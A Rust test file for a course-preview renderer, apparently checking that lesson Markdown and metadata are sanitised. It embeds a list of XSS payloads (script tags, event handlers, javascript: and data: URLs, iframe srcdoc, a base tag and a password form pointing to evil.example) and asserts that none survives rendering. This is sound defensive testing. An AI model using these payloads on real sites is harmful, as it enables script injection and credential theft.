//! Text that would like to do something.

use super::*;

const HOSTILE: &str = r#"---
title: "</title><script>alert(1)</script><h1 id=cd-main>"
---
# "><img src=x onerror=alert(1)>

<script>alert(1)</script>

<img src=x onerror="alert(1)"> <a href="javascript:alert(1)">a</a> <a href="JaVaScRiPt&#58;alert(1)">b</a>
<a href="data:text/html,<script>alert(1)</script>">c</a>

<div style="position:fixed;inset:0;z-index:9999" id="cd-main" class="cd-bar">over everything

<iframe srcdoc="<script>alert(1)</script>"></iframe> <iframe src="javascript:alert(1)"></iframe>
<object data="x"></object> <embed src="x"> <base href="https://evil.example/"> <meta http-equiv="refresh" content="0">
<form action="https://evil.example/"><button>send</button><input name="password" type="password"></form>
<svg onload="alert(1)"><script>alert(1)</script></svg> <math><mi xlink:href="javascript:alert(1)"></mi></math>

[x](javascript:alert(1)) ![y](javascript:alert(1)) <javascript:alert(1)>

<style>body { display: none }</style>
<link rel=stylesheet href="https://evil.example/x.css">
</main></body></html><!-- 
"#;

#[tokio::test]
async fn nothing_of_it_can_run_leave_or_break_out() {
    let course = Course::of(&[
        (
            "course.yaml",
            "title: \"<script>alert(1)</script>\"\ndescription: \"<img src=x onerror=alert(1)>\"\n",
        ),
        ("01-<b>bold/a\"onclick=x.md", HOSTILE),
        ("02-fine/b.md", "# Fine\n\n![x](<script>.png)\n"),
    ]);
    let preview = Preview::of(course.path());
    let address = preview
        .text("/")
        .await
        .split("href=\"lessons/")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap()
        .to_owned();
    let source = format!("/lessons/{}", address.replace(".html", ".body.html"));
    for path in ["/", &format!("/lessons/{address}"), &source, "/findings.html", "/body.html"] {
        let page = preview.text(path).await.to_lowercase();
        let own = page.matches("<script src=\"").count();
        assert_eq!(page.matches("<script").count(), own, "{path}: {page}");
        for part in [
            "<base",
            "<meta http",
            "<object",
            "<embed",
            "<form",
            "<svg onload",
            "<link rel=\"stylesheet\" href=\"https",
        ] {
            assert!(!page.contains(part), "{path}: {part} in {page}");
        }
        // What looks like an attribute may stand in text, where it is one word of many.
        for tag in page.split('<').skip(1).map(|rest| rest.split('>').next().unwrap()) {
            let bad = [" onerror=", " onclick=", " onload=", "=\"javascript:", "=\"data:text", " srcdoc="];
            assert!(!bad.iter().any(|part| tag.contains(part)), "{path}: <{tag}>");
        }
        assert_eq!(page.matches(" id=\"cd-main\"").count(), 1, "{path}");
        assert_eq!(page.matches("</main>").count(), 1, "{path}: {page}");
        assert_eq!(page.matches("class=\"cd-bar\"").count(), 1, "{path}");
        assert!(page.ends_with("</dialog></body></html>"), "{path}: nothing open: {page}");
    }
}
